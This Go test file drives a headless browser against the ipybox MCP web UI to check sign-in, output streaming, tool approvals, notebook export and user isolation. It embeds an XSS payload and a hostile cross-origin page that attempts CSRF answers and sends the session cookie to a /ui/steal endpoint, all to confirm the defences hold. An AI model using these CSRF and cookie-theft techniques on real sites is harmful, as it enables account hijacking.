package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/ipybox/ipybox/internal/mcptest"
	"github.com/ipybox/ipybox/internal/testenv"
)

// browser is the node program of testdata/ui_browser.mjs, driving
// Debian's chromium through playwright-core.
type browser struct {
	t   *testing.T
	in  io.Writer
	out *bufio.Scanner
}

// startBrowser starts the driver against base, or skips (fails in CI)
// where chromium, node or playwright-core is missing.
func startBrowser(t *testing.T, base, shots string) *browser {
	t.Helper()
	chromium := testenv.NeedsTool(t, "chromium")
	node := testenv.NeedsTool(t, "node")
	npm := filepath.Join(testenv.RepoRoot(t), "tools", "npm")
	if _, err := os.Stat(filepath.Join(npm, "node_modules", "playwright-core", "package.json")); err != nil {
		testenv.Missing(t, "playwright-core is not installed in %s; run scripts/setup.sh", npm)
	}
	cmd := exec.Command(node, filepath.Join("testdata", "ui_browser.mjs"), npm, chromium, base, shots)
	cmd.Stderr = os.Stderr
	in, _ := cmd.StdinPipe()
	out, _ := cmd.StdoutPipe()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		in.Close()
		done := make(chan struct{})
		go func() { cmd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(30 * time.Second):
			cmd.Process.Kill()
			<-done
		}
	})
	sc := bufio.NewScanner(out)
	sc.Buffer(nil, 16<<20)
	return &browser{t: t, in: in, out: sc}
}

// do sends a command and decodes its answer into v (nil: none).
func (b *browser) do(cmd map[string]any, v any) {
	b.t.Helper()
	line, _ := json.Marshal(cmd)
	fmt.Fprintf(b.in, "%s\n", line)
	if !b.out.Scan() {
		b.t.Fatalf("browser: no answer to %s", line)
	}
	var ok struct {
		OK    bool
		Error string
	}
	json.Unmarshal(b.out.Bytes(), &ok)
	if !ok.OK {
		b.t.Fatalf("browser: %s: %s", line, ok.Error)
	}
	if v != nil {
		json.Unmarshal(b.out.Bytes(), v)
	}
}

// TestUIBrowser drives the web page of a real `ipybox mcp --http --ui`
// with a real kernel in Debian's chromium: sign in, watch a cell with a
// plot stream, approve a tool call from the page and see the cell
// finish, refuse one, download the notebook and validate it with
// nbformat, read the audit view; a second principal sees nothing of the
// first. It logs the first view's time and the p50 of print-to-page
// latency, and saves screenshots to $IPYBOX_UI_SHOTS (default: a
// temporary folder).
func TestUIBrowser(t *testing.T) {
	py := testenv.NeedsPython(t)
	if err := exec.Command(py, "-c", "import matplotlib").Run(); err != nil {
		testenv.Missing(t, "the kernel's Python %s cannot import matplotlib (%v); run scripts/setup.sh", py, err)
	}
	// The notebook's validator is Debian's python3-nbformat.
	const validator = "/usr/bin/python3"
	if err := exec.Command(validator, "-c", "import nbformat").Run(); err != nil {
		testenv.Missing(t, "%s cannot import nbformat (%v); run scripts/setup.sh (python3-nbformat)", validator, err)
	}
	shots := os.Getenv("IPYBOX_UI_SHOTS")
	if shots == "" {
		shots = t.TempDir()
	}
	os.MkdirAll(shots, 0o755)
	srv, tokens := startUIServer(t)
	base := strings.TrimSuffix(srv.url, "/mcp")
	br := startBrowser(t, base, shots)
	alice := uiMCPClient(t, srv.url, tokens["alice"])

	var views struct{ First, Signed, Anchor []float64 }
	br.do(map[string]any{"cmd": "signin", "who": "alice", "token": tokens["alice"]}, &views)
	t.Logf("first view, median (best) of 5: %s (sign-in form), %s (signed in, session list); anchor, a static file of the same server: %s",
		medianBest(views.First), medianBest(views.Signed), medianBest(views.Anchor))
	// The target is held by the best of 5: on a loaded machine (the CI
	// suite runs packages at once on 2 cores) the median measures the
	// machine's load as much as the page.
	if slices.Min(views.First) >= 300 || slices.Min(views.Signed) >= 300 {
		t.Errorf("first view: %v ms (sign-in form), %v ms (signed in); want one of each < 300 ms", views.First, views.Signed)
	}

	// A first cell makes the session, which the page selects.
	uiRun(t, alice, "print('hello from the agent')")
	br.do(map[string]any{"cmd": "waitfor", "who": "alice", "selector": "#cells", "text": "hello from the agent"}, nil)
	br.do(map[string]any{"cmd": "watch", "who": "alice"}, nil)
	timed := uiRunAsync(t, alice, `import time
import matplotlib.pyplot as plt
plt.plot([1, 3, 2, 4]); plt.title("a plot"); plt.show()
for i in range(20):
    print(f"T={int(time.time()*1000)}", flush=True)
    time.sleep(0.05)`)
	br.do(map[string]any{"cmd": "waitfor", "who": "alice", "selector": "#cells img.out-img"}, nil)
	br.do(map[string]any{"cmd": "shot", "who": "alice", "name": "ui-cell-plot"}, nil) // live: the lines still come
	<-timed
	br.do(map[string]any{"cmd": "waitfor", "who": "alice", "selector": "#cells", "text": "T="}, nil)
	var seen struct{ Seen map[string]float64 }
	br.do(map[string]any{"cmd": "seen", "who": "alice"}, &seen)
	var lat []float64
	for printed, at := range seen.Seen {
		p, _ := strconv.ParseFloat(printed, 64)
		lat = append(lat, at-p)
	}
	slices.Sort(lat)
	if len(lat) < 20 {
		t.Fatalf("the page showed %d of 20 lines", len(lat))
	}
	p50 := lat[len(lat)/2]
	t.Logf("print-to-page latency over %d lines: p50 %.0f ms, max %.0f ms", len(lat), p50, lat[len(lat)-1])
	if p50 > 100 {
		t.Errorf("print-to-page p50 %.0f ms, want < 100 ms", p50)
	}
	br.do(map[string]any{"cmd": "shot", "who": "alice", "name": "ui-sessions"}, nil)

	uiApproveAndRefuse(t, br, alice)

	nb := filepath.Join(t.TempDir(), "alice.ipynb")
	br.do(map[string]any{"cmd": "download", "who": "alice", "file": nb}, nil)
	out, err := exec.Command(validator, "-c", "import nbformat, sys\nnb = nbformat.read(sys.argv[1], as_version=4)\nnbformat.validate(nb)\nprint(len(nb.cells), sum(1 for c in nb.cells for o in c.outputs if 'image/png' in o.get('data', {})))", nb).CombinedOutput()
	if err != nil || strings.TrimSpace(string(out)) != "4 1" {
		t.Errorf("the downloaded notebook: %v: %s (want 4 cells, 1 image)", err, out)
	}

	var audit struct{ Rows [][]string }
	br.do(map[string]any{"cmd": "audit", "who": "alice", "decision": ""}, &audit)
	if len(audit.Rows) != 2 || !strings.Contains(audit.Rows[0][4], "web:alice") || audit.Rows[0][3] != "deny" || audit.Rows[1][3] != "allow" {
		t.Errorf("audit view: %q", audit.Rows)
	}
	br.do(map[string]any{"cmd": "shot", "who": "alice", "name": "ui-audit"}, nil)

	uiKernelMarkup(t, br, alice)
	uiHostilePage(t, br, alice, base)

	// A second tab signs in anew (a new cookie and CSRF token): the first
	// tab goes on with the newest, its session list follows the next cell.
	br.do(map[string]any{"cmd": "open", "who": "alice", "as": "alice-tab2"}, nil)
	br.do(map[string]any{"cmd": "resignin", "who": "alice-tab2", "token": tokens["alice"]}, nil)
	br.do(map[string]any{"cmd": "tab", "who": "alice", "name": "sessions"}, nil)
	uiRun(t, alice, "print('after a second sign-in')")
	br.do(map[string]any{"cmd": "waitfor", "who": "alice", "selector": "#cells", "text": "after a second sign-in"}, nil)
	br.do(map[string]any{"cmd": "waitfor", "who": "alice", "selector": "#sessions", "text": "8 cell(s)"}, nil)

	// Bob signs in: nothing of Alice's.
	var aliceState struct{ Sessions []struct{ ID string } }
	br.do(map[string]any{"cmd": "state", "who": "alice"}, &aliceState)
	br.do(map[string]any{"cmd": "signin", "who": "bob", "token": tokens["bob"]}, nil)
	var bob struct {
		Sessions, Approvals       []any
		OtherCells, OtherNotebook int
	}
	br.do(map[string]any{"cmd": "state", "who": "bob", "other": aliceState.Sessions[0].ID}, &bob)
	if len(aliceState.Sessions) != 1 || len(bob.Sessions) != 0 || len(bob.Approvals) != 0 || bob.OtherCells != 404 || bob.OtherNotebook != 404 {
		t.Errorf("bob sees: %+v (alice has %+v)", bob, aliceState)
	}
	br.do(map[string]any{"cmd": "shot", "who": "bob", "name": "ui-second-principal"}, nil)
	t.Logf("screenshots in %s", shots)
}

// uiApproveAndRefuse approves a tool call from the page (the cell
// finishes), then refuses one.
func uiApproveAndRefuse(t *testing.T, br *browser, alice *mcp.ClientSession) {
	t.Helper()
	done := uiRunAsync(t, alice, "from mcptools.elicit_go.tool_1 import Params, run\nprint(run(Params(s='approved on the page')))")
	br.do(map[string]any{"cmd": "tab", "who": "alice", "name": "inbox"}, nil)
	br.do(map[string]any{"cmd": "waitfor", "who": "alice", "selector": ".pending button[data-answer=allow]"}, nil)
	br.do(map[string]any{"cmd": "shot", "who": "alice", "name": "ui-inbox"}, nil)
	var asked struct{ Text string }
	br.do(map[string]any{"cmd": "answer", "who": "alice", "answer": "allow"}, &asked)
	if !strings.Contains(asked.Text, "tool-1 of server elicit_go") || !strings.Contains(asked.Text, "approved on the page") {
		t.Errorf("the inbox showed: %q", asked.Text)
	}
	if got := <-done; !strings.Contains(got, "tool-1: approved on the page") {
		t.Errorf("approved cell: %q", got)
	}
	br.do(map[string]any{"cmd": "waitfor", "who": "alice", "selector": "#cells", "text": "tool-1: approved on the page"}, nil)

	done = uiRunAsync(t, alice, "from mcptools.elicit_go.tool_1 import Params, run\nprint(run(Params(s='refused on the page')))")
	br.do(map[string]any{"cmd": "answer", "who": "alice", "answer": "deny"}, nil)
	if got := <-done; !strings.Contains(got, "ApprovalRejectedError") || strings.Contains(got, "tool-1: refused") {
		t.Errorf("refused cell: %q", got)
	}
}

// startUIServer runs the built binary as `ipybox mcp --http --ui`, for
// principals alice and bob, with --approval elicit and the Go test MCP
// server registered.
func startUIServer(t *testing.T) (*mcpBinary, map[string]string) {
	t.Helper()
	dir := t.TempDir()
	tokens := map[string]string{"alice": "alice-ui-token-" + strconv.Itoa(os.Getpid()), "bob": "bob-ui-token-" + strconv.Itoa(os.Getpid())}
	tf := filepath.Join(dir, "tokens")
	os.WriteFile(tf, []byte("alice:"+tokens["alice"]+"\nbob:"+tokens["bob"]+"\n"), 0o600)
	cfg := filepath.Join(dir, "servers.json")
	b, _ := json.Marshal(map[string]any{"mcpServers": map[string]any{"elicit_go": map[string]any{"command": mcptest.Build(t)}}})
	os.WriteFile(cfg, b, 0o600)
	conf := filepath.Join(dir, "config")
	os.Mkdir(conf, 0o700)
	ws := filepath.Join(dir, "ws")
	os.Mkdir(ws, 0o755)
	cmd := exec.Command(testenv.Binary(t), "mcp", "--http", "127.0.0.1:0", "--ui", "--auth-token-file", tf, "--workspace", ws,
		"--approval", "elicit", "--mcp-config", cfg, "--approval-policy", filepath.Join(conf, "approvals.policy"),
		"--approval-log", filepath.Join(conf, "approvals.jsonl"), "--no-sandbox")
	return startHTTPCmd(t, cmd), tokens
}

// uiMCPClient connects as the principal of token, without elicitation:
// the page answers its approvals.
func uiMCPClient(t *testing.T, url, token string) *mcp.ClientSession {
	t.Helper()
	c := mcp.NewClient(&mcp.Implementation{Name: "agent", Version: "1"}, nil)
	cs, err := c.Connect(t.Context(), &mcp.StreamableClientTransport{Endpoint: url, DisableStandaloneSSE: true, HTTPClient: &http.Client{Transport: testenv.Bearer{Token: token}}},
		&mcp.ClientSessionOptions{ProtocolVersion: "2025-11-25"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cs.Close() })
	return cs
}

func uiRun(t *testing.T, cs *mcp.ClientSession, code string) string {
	t.Helper()
	got := <-uiRunAsync(t, cs, code)
	return got
}

// uiRunAsync runs a cell, and sends its result's text (or the call's
// error) on the channel it returns.
func uiRunAsync(t *testing.T, cs *mcp.ClientSession, code string) <-chan string {
	ch := make(chan string, 1)
	go func() {
		res, err := cs.CallTool(t.Context(), &mcp.CallToolParams{Name: "execute_ipython_cell", Arguments: map[string]any{"code": code, "timeout": 120}})
		if err != nil {
			ch <- "error: " + err.Error()
			return
		}
		var b strings.Builder
		for _, c := range res.Content {
			if tc, ok := c.(*mcp.TextContent); ok {
				b.WriteString(tc.Text)
			}
		}
		ch <- b.String()
	}()
	return ch
}

// uiKernelMarkup: kernel output that tries to run script in the page (an
// HTML display with a script and an event handler, text with a bidi
// override and a terminal escape) runs nothing: the HTML is in a frame
// sandboxed without scripts, the text is shown escaped.
func uiKernelMarkup(t *testing.T, br *browser, alice *mcp.ClientSession) {
	t.Helper()
	br.do(map[string]any{"cmd": "tab", "who": "alice", "name": "sessions"}, nil)
	br.do(map[string]any{"cmd": "listen", "who": "alice"}, nil)
	uiRun(t, alice, `from IPython.display import HTML, display
display(HTML('<b>markup</b><script>parent.postMessage("script ran", "*"); parent.document.title = "pwned"</script>'
             '<img src="data:," onerror="parent.postMessage(\'handler ran\', \'*\')">'))
print("evil\u202egnp.exe \x1b[2Khidden")`)
	// A later cell: by the time its line is on the page, the frame's
	// script would have run.
	uiRun(t, alice, "print('after the markup')")
	br.do(map[string]any{"cmd": "waitfor", "who": "alice", "selector": "#cells", "text": "after the markup"}, nil)
	var f struct {
		Sandboxes, Messages, Rendered []string
		Title, Cells                  string
	}
	br.do(map[string]any{"cmd": "frames", "who": "alice"}, &f)
	br.do(map[string]any{"cmd": "shot", "who": "alice", "name": "ui-kernel-markup"}, nil)
	if len(f.Sandboxes) == 0 || slices.ContainsFunc(f.Sandboxes, func(s string) bool { return s != "" }) {
		t.Errorf("markup frames' sandboxes: %q, want each empty (no scripts)", f.Sandboxes)
	}
	t.Logf("markup frames: sandbox %q, rendered %q", f.Sandboxes, f.Rendered)
	// The frame did render the markup: no script ran although it was read.
	if !slices.ContainsFunc(f.Rendered, func(s string) bool { return strings.Contains(s, "<b>markup</b>") }) {
		t.Errorf("markup frames rendered %q, want the <b>markup</b> of the display", f.Rendered)
	}
	if len(f.Messages) != 0 || strings.Contains(f.Title, "pwned") {
		t.Errorf("kernel markup ran script in the page: messages %q, title %q", f.Messages, f.Title)
	}
	if !strings.Contains(f.Cells, `evil\u202egnp.exe \x1b[2Khidden`) || strings.Contains(f.Cells, "\u202e") || strings.Contains(f.Cells, "\x1b") {
		t.Errorf("kernel text is not shown escaped: %q", f.Cells)
	}
}

// uiHostilePage: a page of another origin on the same host (so the
// same site: the SameSite=Strict cookie goes with its requests), opened
// in Alice's browser and knowing the id of her pending approval, cannot
// read her approvals or answer it: by fetch with and without CORS, by a
// beacon, by a form whose text/plain body is JSON. Its server gets the
// page's cookie (cookies do not isolate ports), and with it still reads
// and answers nothing. The approval stays pending; Alice refuses it from
// the page.
func uiHostilePage(t *testing.T, br *browser, alice *mcp.ClientSession, base string) {
	t.Helper()
	stolen := make(chan string, 16)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/ui/steal" {
			select {
			case stolen <- r.Header.Get("Cookie"):
			default:
			}
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, hostilePage)
	}))
	t.Cleanup(evil.Close)
	done := uiRunAsync(t, alice, "from mcptools.elicit_go.tool_1 import Params, run\nprint(run(Params(s='wanted by the attacker')))")
	br.do(map[string]any{"cmd": "tab", "who": "alice", "name": "inbox"}, nil)
	br.do(map[string]any{"cmd": "waitfor", "who": "alice", "selector": ".pending button[data-answer=allow]"}, nil)
	var st struct{ Approvals []struct{ ID string } }
	br.do(map[string]any{"cmd": "state", "who": "alice"}, &st)
	if len(st.Approvals) != 1 {
		t.Fatalf("alice's approvals: %+v", st.Approvals)
	}
	id := st.Approvals[0].ID
	for _, host := range []string{evil.URL, strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)} {
		var rep struct{ Report map[string]string }
		br.do(map[string]any{"cmd": "attack", "who": "alice", "url": host + "/?base=" + base + "&id=" + id}, &rep)
		t.Logf("hostile page at %s: %v", host, rep.Report)
		if strings.Contains(rep.Report["read"], "status 200") || strings.Contains(rep.Report["cors"], "status 2") {
			t.Errorf("the hostile page at %s read or answered: %v", host, rep.Report)
		}
		br.do(map[string]any{"cmd": "state", "who": "alice"}, &st)
		if len(st.Approvals) != 1 || st.Approvals[0].ID != id {
			t.Fatalf("after the hostile page at %s, alice's approvals are %+v; want %s still pending", host, st.Approvals, id)
		}
	}
	var cookie string
	select {
	case cookie = <-stolen:
	default:
	}
	if !strings.Contains(cookie, "ipybox_ui=") {
		t.Errorf("the hostile server on another port got cookies %q; the test expects the browser to send it the page's cookie", cookie)
	}
	uiStolenCookie(t, base, cookie, id)
	br.do(map[string]any{"cmd": "state", "who": "alice"}, &st)
	if len(st.Approvals) != 1 || st.Approvals[0].ID != id {
		t.Fatalf("after the stolen cookie's requests, alice's approvals are %+v; want %s still pending", st.Approvals, id)
	}
	br.do(map[string]any{"cmd": "answer", "who": "alice", "answer": "deny"}, nil)
	if got := <-done; !strings.Contains(got, "ApprovalRejectedError") {
		t.Errorf("the cell the hostile page wanted approved: %q", got)
	}
}

// uiStolenCookie uses the page's cookie, as a server on another port got
// it, against the page's API: no read, no CSRF token, no answer.
func uiStolenCookie(t *testing.T, base, cookie, id string) {
	t.Helper()
	try := func(method, path, body string) (int, string) {
		req, _ := http.NewRequest(method, base+path, strings.NewReader(body))
		req.Header.Set("Cookie", cookie)
		req.Header.Set("Origin", base) // not a browser: it says what it likes
		req.Header.Set("Content-Type", "application/json")
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(b)
	}
	for _, path := range []string{"/ui/api/me", "/ui/api/approvals", "/ui/api/sessions"} {
		if code, body := try("GET", path, ""); code != 403 {
			t.Errorf("GET %s with the stolen cookie: %d %s, want 403", path, code, body)
		}
	}
	if code, body := try("POST", "/ui/api/answer", `{"id":"`+id+`","answer":"allow"}`); code != 403 {
		t.Errorf("answer with the stolen cookie: %d %s, want 403", code, body)
	}
}

// hostilePage is served from another origin. It tries every way a page
// has to answer the approval id named in its query on the ipybox page at
// base, and reports in window.__done.
const hostilePage = `<!doctype html><title>hostile</title>
<form id="f" method="POST" enctype="text/plain" target="sink"><input id="in"></form>
<iframe name="sink"></iframe>
<script>
(async () => {
  const q = new URLSearchParams(location.search);
  const base = q.get('base'), id = q.get('id');
  const body = JSON.stringify({ id, answer: 'allow' });
  const out = {};
  try {
    const r = await fetch(base + '/ui/api/approvals', { credentials: 'include' });
    out.read = 'status ' + r.status + ' ' + (await r.text());
  } catch (e) { out.read = 'error: ' + e; }
  try {
    const r = await fetch(base + '/ui/api/answer', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body });
    out.nocors = r.type;
  } catch (e) { out.nocors = 'error: ' + e; }
  try {
    const r = await fetch(base + '/ui/api/answer', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': 'guessed' }, body });
    out.cors = 'status ' + r.status;
  } catch (e) { out.cors = 'error: ' + e; }
  out.beacon = String(navigator.sendBeacon(base + '/ui/api/answer', body));
  // text/plain form encoding sends name=value: a name and value that
  // make JSON.
  const input = document.getElementById('in');
  input.name = '{"id":"' + id + '","answer":"allow","x":"';
  input.value = '"}';
  const f = document.getElementById('f');
  f.action = base + '/ui/api/answer';
  await new Promise((resolve) => { document.querySelector('iframe').onload = resolve; f.submit(); });
  out.form = 'submitted';
  // Its own server, on the same host: the browser sends it the cookies of
  // this host's path /ui/, whatever their port.
  await fetch('/ui/steal');
  window.__done = out;
})();
</script>`

// medianBest formats the median and the best of ms.
func medianBest(ms []float64) string {
	if len(ms) == 0 {
		return "none"
	}
	s := slices.Sorted(slices.Values(ms))
	return fmt.Sprintf("%.0f ms (%.0f ms)", s[len(s)/2], s[0])
}

// TestUIBrowserThousandCells: a real session of 1,000 cells, 100 of them
// plots, stays usable in chromium: the page shows its newest 50 cells
// soon after it loads, and each "Show older cells" adds 50 more.
func TestUIBrowserThousandCells(t *testing.T) {
	py := testenv.NeedsPython(t)
	if err := exec.Command(py, "-c", "import matplotlib").Run(); err != nil {
		testenv.Missing(t, "the kernel's Python %s cannot import matplotlib (%v); run scripts/setup.sh", py, err)
	}
	srv, tokens := startUIServer(t)
	base := strings.TrimSuffix(srv.url, "/mcp")
	br := startBrowser(t, base, t.TempDir())
	alice := uiMCPClient(t, srv.url, tokens["alice"])
	uiRun(t, alice, "import matplotlib.pyplot as plt")
	start := time.Now()
	var wg sync.WaitGroup
	sem := make(chan struct{}, 8)
	for i := 1; i < 1000; i++ {
		code := fmt.Sprintf("x = %d\nprint(x * 2)", i)
		if i%10 == 0 {
			code = fmt.Sprintf("plt.figure(figsize=(3, 2)); plt.plot([0, %d]); plt.show()", i)
		}
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			if got := <-uiRunAsync(t, alice, code); strings.HasPrefix(got, "error:") {
				t.Errorf("cell %d: %s", i, got)
			}
		}()
	}
	wg.Wait()
	t.Logf("1,000 cells (100 plots) ran in %v", time.Since(start).Round(time.Millisecond))
	br.do(map[string]any{"cmd": "login", "who": "alice", "token": tokens["alice"]}, nil)
	// The newest cells' view, best of 3 (on a loaded machine the median
	// measures the load).
	var view struct {
		At    float64
		Cells int
	}
	var views []float64
	for range 3 {
		br.do(map[string]any{"cmd": "cellsview", "who": "alice", "n": 50}, &view)
		views = append(views, view.At)
	}
	var older []string
	var more struct {
		MS            float64
		Cells, Images int
	}
	for range 3 {
		br.do(map[string]any{"cmd": "older", "who": "alice"}, &more)
		older = append(older, fmt.Sprintf("%.0f ms", more.MS))
	}
	t.Logf("the page of a 1,000-cell session: newest %d cells shown %s after navigation (median, best of 3); 3 x older: %v, then %d cells and %d images on the page",
		view.Cells, medianBest(views), older, more.Cells, more.Images)
	// Every tenth cell plots, but 8 are sent at a time, so the newest 200
	// that ran hold 20 plots give or take the few that overtook another.
	if view.Cells != 50 || more.Cells != 200 || more.Images < 17 || more.Images > 23 {
		t.Errorf("cells shown: %d, then %d with %d images; want 50, then 200 with about 20", view.Cells, more.Cells, more.Images)
	}
	if slices.Min(views) > 1000 {
		t.Errorf("the newest cells showed %v ms after navigation, want one < 1 s", views)
	}
}
